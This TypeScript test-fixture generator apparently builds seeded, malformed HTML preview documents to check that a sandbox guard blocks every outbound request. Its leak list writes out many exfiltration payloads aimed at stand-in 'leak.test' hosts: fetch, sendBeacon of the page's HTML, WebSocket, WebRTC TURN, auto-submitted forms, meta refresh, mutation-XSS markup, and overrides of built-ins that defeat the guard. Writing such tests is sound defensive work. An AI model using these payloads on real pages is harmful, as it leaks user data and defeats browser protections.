/**
 * Generated hostile preview documents: markup that confuses naive head detection, combined with
 * every way out a page has. Deterministic for a seed, so a failing document can be replayed.
 */
export interface HostileUrls {
  http: string;
  stun: string;
  turn: string;
  /** An https URL whose host name (under `leak.test`) carries `label`. */
  named: (label: string) => string;
}

/** A value as a JavaScript literal safe inside an inline script. */
const literal = (value: string) => JSON.stringify(value).replace(/</g, '\\u003c');
const attribute = (value: string) => value.replace(/&/g, '&amp;').replace(/"/g, '&quot;');

const pick = <T>(random: () => number, items: readonly T[]): T =>
  items[Math.floor(random() * items.length)]!;

/** A small seeded generator (mulberry32): the same seed gives the same documents. */
export function seeded(seed: number): () => number {
  let state = seed >>> 0;
  return () => {
    state = (state + 0x6d2b79f5) >>> 0;
    let t = state;
    t = Math.imul(t ^ (t >>> 15), t | 1);
    t ^= t + Math.imul(t ^ (t >>> 7), t | 61);
    return ((t ^ (t >>> 14)) >>> 0) / 4294967296;
  };
}

function leaks(urls: HostileUrls, id: string): string[] {
  const u = `${urls.http}/${id}`;
  const rtc = `try { const pc = new RTCPeerConnection({ iceServers: [{ urls: '${urls.stun}' }, { urls: '${urls.turn}', username: '${id}', credential: 'x' }] }); pc.createDataChannel('x'); pc.createOffer().then((o) => pc.setLocalDescription(o)); } catch (e) {}`;
  // TURN over TLS to a name the raw TCP sink reads: a guard bypass shows up as a server name.
  const turnNamed = `turns:${new URL(urls.named(`${id}-rtc`)).host}?transport=tcp`;
  const rtcNamed = `try { const pc = new RTCPeerConnection({ iceServers: [{ urls: '${urls.stun}' }, { urls: '${turnNamed}', username: '${id}', credential: 'x' }] }); pc.createDataChannel('x'); pc.createOffer().then((o) => pc.setLocalDescription(o)); } catch (e) {}`;
  const nested = `<script>${rtcNamed}</script>`;
  const declared = (mode: string) =>
    `<div><template shadowrootmode="${mode}"><p>root</p><iframe srcdoc="${attribute(nested)}"></iframe></template></div>`;
  return [
    // Nested frames two deep, declarative shadow roots (markup and setHTMLUnsafe), and built-ins
    // the guard relies on replaced before a nested frame is made.
    `<script>(() => { const f = document.createElement('iframe'); f.srcdoc = '<iframe srcdoc="' + ${literal(attribute(nested))} + '"></iframe>'; document.documentElement.append(f); })();</script>`,
    declared('closed'),
    declared('open'),
    `<script>(() => { const d = document.createElement('div'); document.documentElement.append(d); d.setHTMLUnsafe(${literal(declared('closed'))}); })();</script>`,
    `<script>String.prototype.includes = () => true; String.prototype.startsWith = () => true; Element.prototype.setAttribute = function () {}; Element.prototype.getAttribute = () => null; RegExp.prototype.exec = () => null;</script><iframe srcdoc="${attribute(nested)}"></iframe>`,
    `<script>fetch('${u}/fetch').catch(() => {});</script>`,
    `<script>new Image().src = '${u}/image';</script>`,
    `<script>navigator.sendBeacon('${u}/beacon', document.documentElement.outerHTML);</script>`,
    `<script>try { new WebSocket('${u.replace('http', 'ws')}/ws'); } catch (e) {}</script>`,
    `<script>try { new EventSource('${u}/sse'); } catch (e) {}</script>`,
    `<script type="module">import('${u}/import.js').catch(() => {});</script>`,
    `<script>${rtc}</script>`,
    `<script>try { new Worker(URL.createObjectURL(new Blob(["fetch('${u}/worker').catch(() => {})"]))); } catch (e) {}</script>`,
    `<img src="${u}/img-tag">`,
    `<link rel="stylesheet" href="${u}/sheet.css">`,
    `<link rel="prefetch" href="${u}/prefetch">`,
    `<link rel="preload" as="script" href="${u}/preload.js">`,
    `<style>@import url('${u}/import.css'); body { background: url('${u}/bg.png'); }</style>`,
    `<video poster="${u}/poster.png"></video>`,
    `<svg><image href="${u}/svg-image.png"/></svg>`,
    `<iframe src="${u}/iframe"></iframe>`,
    `<object data="${u}/object"></object>`,
    `<embed src="${u}/embed">`,
    `<iframe srcdoc="<script>fetch('${u}/nested').catch(() => {}); ${rtc.replace(/"/g, '&quot;')}</script>"></iframe>`,
    `<form action="${u}/form" method="post"><input name="d" value="x"></form><script>document.forms[document.forms.length - 1].submit();</script>`,
    `<meta http-equiv="refresh" content="0;url=${u}/refresh">`,
    `<script>addEventListener('load', () => { location.href = '${u}/href?d=' + document.title; });</script>`,
    `<a id="a-${id}" href="${u}/anchor">a</a><script>addEventListener('load', () => document.getElementById('a-${id}').click());</script>`,
    `<script>addEventListener('load', () => open('${u}/open', '_self'));</script>`,
    `<noscript><p title="</noscript><script>fetch('${u}/noscript').catch(() => {})</script>"></p></noscript>`,
    `<svg><script>fetch('${u}/svg-script').catch(() => {})</script></svg>`,
    `<math><mtext><table><mglyph><style><img src="${u}/mxss" onerror="fetch('${u}/mxss2')"></style></mglyph></table></mtext></math>`,
    `<template><script>fetch('${u}/template')</script></template>`,
  ];
}

const BEFORE_HTML = (urls: HostileUrls, id: string, leak: string) => [
  '',
  '<!doctype html>',
  '<!DOCTYPE html PUBLIC "-//W3C//DTD HTML 4.01//EN" "http://www.w3.org/TR/html4/strict.dtd">',
  '\uFEFF<!doctype html>',
  '<!-- <head> -->',
  '<!-- --!> <head> -->',
  'text before html ',
  leak,
  `<base href="${urls.http}/${id}/base/">`,
  `<meta http-equiv="Content-Security-Policy" content="default-src *">`,
];
const HTML_OPEN = ['', '<html>', '<HTML LANG="en">', '<html data-x=">">', "<html a='<head>'>"];
const HEAD_OPEN = ['', '<head>', '<HEAD>', '<head data-x=">">', '<head><head>', "<head a='\">'>"];
const HEAD_CLOSE = ['', '</head>', '</HEAD><head>', '</head></head>'];
const BODY = ['', '<body>', '<BODY onload="void 0">', '<frameset></frameset>', '<p>text</p>'];
const TAIL = [
  '',
  '</body></html>',
  '</html><!-- after -->',
  '<plaintext>',
  '<xmp>',
  '<title></title>',
];

/** Document `index` of the stream for `seed`. */
export function hostileDocument(seed: number, index: number, urls: HostileUrls): string {
  const random = seeded(seed * 1_000_003 + index);
  const id = `doc${index}`;
  const all = leaks(urls, id);
  const leak = () => pick(random, all);
  return [
    pick(random, BEFORE_HTML(urls, id, leak())),
    pick(random, HTML_OPEN),
    pick(random, HEAD_OPEN),
    random() < 0.7 ? leak() : '',
    pick(random, HEAD_CLOSE),
    pick(random, BODY),
    leak(),
    random() < 0.5 ? leak() : '',
    pick(random, TAIL),
  ].join('');
}
